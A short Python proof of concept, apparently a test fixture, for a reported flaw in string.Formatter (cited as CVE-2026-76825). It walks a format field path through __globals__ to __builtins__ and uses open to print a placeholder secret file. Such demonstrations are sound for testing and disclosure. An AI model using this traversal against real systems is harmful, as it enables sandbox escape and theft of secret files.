"""string.Formatter returns live objects (CVE-2026-76825)."""
import string
found, _ = string.Formatter().get_field("a.__init__.__globals__", (), {"a": string.Template})
print(found["__builtins__"]["open"]("@SECRET_FILE@").read())
